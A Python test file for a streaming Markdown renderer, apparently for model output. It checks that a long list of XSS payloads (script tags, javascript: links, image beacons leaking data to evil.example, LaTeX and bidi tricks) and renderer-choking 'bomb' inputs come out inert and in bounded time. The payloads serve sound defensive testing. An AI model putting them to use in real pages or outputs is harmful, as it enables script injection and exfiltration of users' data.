from __future__ import annotations

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from streaming.markdown import MarkdownStream, RenderOptions, render
from streaming.markdown.clean import TAGS, clean
from streaming.markdown.mathml import ELEMENTS, mathml
from tests.markdown.page import Page

HOSTS = RenderOptions(frozenset({"pics.example"}))
SECONDS = 0.2

XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<!--><script>alert(1)</script>-->",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p id=chat class=chat-note data-message=1>x</p>",
    "</div></article><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.b/c)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "javascript:alert(1) and javascript://alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "![x](<https://evil.example/?q=secret>)",
    "![x][r]\n\n[r]: https://evil.example/?q=secret",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,AAAA)",
    "![x](//evil.example/a.png)",
    '![x" onerror="alert(1)](https://pics.example/a.png)',
    '![x](https://pics.example/a.png"onerror="alert(1))',
    '![x](https://pics.example/a.png " onerror=alert(1) ")',
    '[x](https://a.b "t\\" onmouseover=alert(1) ")',
    '[x](https://a.b/"onmouseover="alert(1))',
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "~~~ <b>\n<b>\n~~~",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:-:" onclick=alert(1)|\n| b |',
    '1" onclick="alert(1). x',
    "- [x] <script>alert(1)</script>",
    "[^<script>]: x",
    "https://a.b/<script>alert(1)</script>",
    'https://a.b/"onmouseover="alert(1)',
    "https://a.b/'><script>alert(1)</script>",
    "$\\text{<script>alert(1)</script>}$",
    '$$\\text{<img/src="x"/onerror="alert(1)">}$$',
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "$\\class{chat-note}{x}$ $\\style{position:fixed}{x}$ $\\id{chat}{x}$",
    "$\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.example/a.png}$",
    "$\\unicode{x3c}script$ $\\mathrm{&lt;script&gt;}$ $&lt;img src=x&gt;$",
    "$x\\color{red;background:url(https://evil.example)}y$",
    "$\\textcolor{javascript:alert(1)}{x}$ $\\require{html}$",
    "$x</math><script>alert(1)</script>$",
    "\u202ecod.exe\u202c [\u202ex](https://a.b)",
]


class Reader(HTMLParser):
    """Collects what a browser would run, load or show under the name of something else."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS | ELEMENTS:
            self.bad.append(tag)
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "id", "srcset", "srcdoc", "name", "action", "formaction"):
                self.bad.append(f"{tag} {name}")
            if name == "class" and not all(one.startswith(("md-", "hl-")) for one in (value or "").split()):
                self.bad.append(f"{tag} class={value}")
            if name in ("href", "src", "xlink:href"):
                self.check(tag, value or "")
        if tag == "a":
            rel = (dict(attrs).get("rel") or "").split()
            self.bad += [] if {"noopener", "nofollow", "ugc"} <= set(rel) else ["a rel"]

    def check(self, tag: str, address: str) -> None:
        parts = urlsplit(address)
        is_picture = tag != "img" or (parts.scheme, parts.hostname) == ("https", "pics.example")
        if parts.scheme not in ("", "http", "https", "mailto") or not is_picture:
            self.bad.append(f"{tag} {address}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.bad.append(f"unbalanced {tag}")


def troubles(html: str) -> list[str]:
    reader = Reader(html)
    return reader.bad + reader.open


@pytest.mark.parametrize("text", XSS)
@pytest.mark.parametrize(
    "around", ["{}", "> {}", "- {}\n- x", "**{}**", "| {} |\n|---|\n| {} |", "[{}](https://a.b)", "$${}$$"]
)
def test_nothing_of_a_model_becomes_live(text, around):
    source = around.format(text, text)
    assert troubles(render(source, HOSTS)) == []


@pytest.mark.parametrize("text", XSS)
def test_nothing_of_a_model_is_live_while_it_is_written(text):
    stream, page = MarkdownStream(HOSTS), Page()
    for character in text:
        page.told(character)
        page.apply(stream.feed(character))
        assert troubles(page.html) == []


def test_reader_of_these_tests_sees_what_is_live():
    assert troubles("<script>x</script>") == ["script"]
    assert troubles('<p onclick="x">a</p>') == ["p onclick"]
    assert troubles('<a href="javascript:x" rel="noopener nofollow ugc">a</a>') == ["a javascript:x"]
    assert troubles('<img src="https://evil.example/a">') == ["img https://evil.example/a"]
    assert troubles("<p><b>x</b></p>") == ["b"]
    assert troubles("<p>") == ["p"]


def test_second_lock_removes_what_the_renderer_should_not_have_made():
    assert clean('<p onclick="x" style="x" id="x" class="chat-note">a<script>b</script></p>') == '<p class="">a</p>'
    assert clean('<a href="javascript:x">a</a><img src="data:image/png;base64,A">') == "<a>a</a><img>"


@pytest.mark.parametrize("formula", ["{" * 1000, "\\left(" * 500, "x" * 5000, "\\frac", "\\text{", "^", "&", "\\" * 99])
def test_formula_that_cannot_be_converted_is_shown_as_source(formula):
    converted = mathml(formula, is_display=False)
    assert converted is None or troubles(converted) == []
    assert troubles(render(f"${formula}$ and text")) == []


def test_override_of_the_direction_is_shown_as_a_sign():
    assert "\u202e" not in render("a \u202ecod.exe `\u202d`\n\n```\n\u202e\n```\n")
    assert render("\u200b\u200b") == '<p dir="auto">\u200b\u200b</p>'


def test_half_of_a_character_breaks_nothing():
    render("\ud83d and \ude00").encode()


BOMBS = {
    "quotes": ">" * 10_000 + " a",
    "quotes with spaces": "> " * 10_000 + "a",
    "lists": "- " * 10_000 + "a",
    "deep lists": "\n".join("  " * depth + "- a" for depth in range(300)),
    "deep quotes": "\n".join(">" * depth + " a" for depth in range(1, 300)),
    "brackets": "[" * 10_000,
    "closed brackets": "[" * 10_000 + "]" * 10_000,
    "links": "[a](" * 5_000,
    "pictures": "![" * 10_000,
    "backticks": "`" * 10_000,
    "backticks of all lengths": " ".join("`" * length for length in range(1, 140)),
    "stars": "*a " * 10_000,
    "only stars": "*" * 10_000 + "a",
    "stars and lines": "*_" * 10_000,
    "emphasis": "**a **a " * 10_000,
    "tildes": "~~a " * 10_000,
    "less": "<" * 10_000,
    "tags": "<a " * 30_000,
    "entities": "&" * 50_000,
    "escapes": "\\" * 100_000,
    "line": "word " * 200_000,
    "line with signs": "**word** " * 110_000,
    "line of Chinese": "漢" * 1_000_000,
    "dollars": "$a " * 20_000,
    "formulas": "\\(" * 10_000,
    "nested formula": "$" + "\\frac{1}{" * 100 + "1" + "}" * 100 + "$",
    "table": "|" * 60 + "\n" + "|-" * 60 + "|\n" + "|\n" * 1000,
    "wide table": "|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n" + "|\n" * 1000,
    "definitions": "[a]: /u\n" * 2000 + "[a]" * 2000,
    "addresses": "http://a" + ")" * 20_000,
    "notes": "[^1]" * 10_000,
    "fences": "```\n" * 5_000,
    "zero width": "\u200b" * 100_000,
    "overrides": "\u202e" * 50_000 + "abc",
    "line ends": "\r" * 50_000,
    "spaces": " " * 100_000 + "a",
    "code": "```python\n" + '"' * 15_000 + "\n```",
    "code of brackets": "```json\n" + "{" * 15_000 + "\n```",
    "code of templates": "```js\n" + "`${\n" * 5_000 + "\n```",
    "code of tags": "```html\n" + "<a \n" * 5_000 + "\n```",
}


@pytest.mark.parametrize("name", BOMBS)
def test_bomb_is_shown_in_bounded_time(name):
    text = BOMBS[name]
    began = time.process_time()
    html = render(text)
    assert time.process_time() - began <= 3 * SECONDS  # a machine of CI is slower, and two at once slow each other
    assert troubles(html) == []
    assert len(html) <= 40 * len(text) + 100


@pytest.mark.parametrize("name", BOMBS)
def test_bomb_that_comes_in_pieces_is_the_same(name):
    text = BOMBS[name][:20_000]
    stream = MarkdownStream()
    for at in range(0, len(text), 200):
        stream.feed(text[at : at + 200])
    stream.finish()
    assert stream.html == render(text)


@pytest.mark.parametrize("text", [">" * 100 + " deep", "- " * 100 + "deep", "*" * 3000 + "deep"])
def test_what_cannot_be_rendered_is_shown_as_plain_text(text):
    assert "deep" in render(text)


def test_fault_of_a_library_costs_no_answer_and_is_told_once_without_its_text(monkeypatch, caplog):
    from streaming.markdown import drawing, faults

    faults._note.cache_clear()

    def fail(html: str) -> str:
        raise RuntimeError(html)

    monkeypatch.setattr(drawing, "clean", fail)
    assert (
        render("**a**\n\n<b>") == '<p class="md-plain" dir="auto">**a**</p><p class="md-plain" dir="auto">&lt;b&gt;</p>'
    )
    [record] = caplog.records
    assert record.message.endswith("a settled block failed (RuntimeError).")
